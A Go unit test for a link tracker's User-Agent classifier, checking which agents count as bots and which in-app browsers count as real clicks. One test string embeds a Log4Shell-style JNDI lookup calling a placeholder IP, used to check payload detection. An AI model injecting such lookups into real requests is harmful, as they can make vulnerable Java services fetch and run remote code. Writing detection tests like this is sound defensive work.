package tracker

import (
	"slices"
	"testing"

	"github.com/refedge/refedge/attribution/event"
)

// TestClassifyUserAgentRules: each general User-Agent rule refuses a click with its own
// reason, and in-app browsers, with the headers of a browser, are valid clicks while
// the same apps' preview fetchers are bots.
func TestClassifyUserAgentRules(t *testing.T) {
	const uri = "https://r.example/k?ref=12345"
	f := func(want event.Verdict, reason, ua string) {
		t.Helper()
		v, reasons := classify(t, uri, "X-Forwarded-Proto", "https", "User-Agent", ua)
		if v != want || (reason != "" && !slices.Contains(reasons, reason)) || (reason == "" && len(reasons) != 0) {
			t.Errorf("%s: verdict %s %v, want %s with %q", ua, v, reasons, want, reason)
		}
	}
	// General rules, each with its reason.
	f(event.Bot, "ua:monitor", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36 Datadog/Synthetics")
	f(event.Bot, "ua:transcoder", "Mozilla/5.0 (Linux; Android 9; SM-G960F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Mobile Safari/537.36 googleweblight")
	f(event.Bot, "ua:lowercase", "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36 (khtml, like gecko) chrome/156.0.0.0 safari/537.36")
	f(event.Bot, "ua:khtml-comment", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; ExampleCrawler/1.0) Chrome/156.0.0.0 Safari/537.36")
	f(event.Bot, "ua:automation", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Cypress/13.6.1 Chrome/156.0.0.0 Electron/25.8.4 Safari/537.36")
	f(event.Bot, "ua:payload", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36 ${jndi:ldap://198.51.100.7/a}")
	f(event.Bot, "ua:tool-token", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36 reqwest/0.12")

	// In-app browsers are people.
	f(event.Valid, "", "Mozilla/5.0 (Linux; Android 15; SM-A556B Build/AP3A.240905.015.A2; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/156.0.7151.89 Mobile Safari/537.36 MetaIAB Facebook")
	f(event.Valid, "", "Mozilla/5.0 (Linux; Android 11; SM-A515F Build/RP1A.200720.012; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/156.0.4664.104 Mobile Safari/537.36 Viber/11.9.5.8")
	f(event.Valid, "", "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/156.0.6422.165 Mobile Safari/537.36 CamScanner/6.62.0.2404160000")
	f(event.Valid, "", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22D82 [FBAN/FBIOS;FBAV/503.0.0.45.107;FBBV/703264651;FBDV/iPhone16,2;FBMD/iPhone;FBSN/iOS;FBSV/18.3.2;FBSS/3;FBCR/;FBID/phone;FBLC/ru_RU;FBOP/80]")
	// Opera Mini renders on a server for the person holding the phone: a browser.
	f(event.Valid, "", "Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; ru) Presto/2.12.423 Version/12.16")
	f(event.Valid, "", "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) Presto/2.5.25 Version/10.54")
	// Their preview fetchers are bots.
	f(event.Bot, "ua:crawler", "Viber")
	f(event.Bot, "ua:crawler", "WhatsApp/2.23.20.0 A")
	f(event.Bot, "ua:crawler", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)")
}
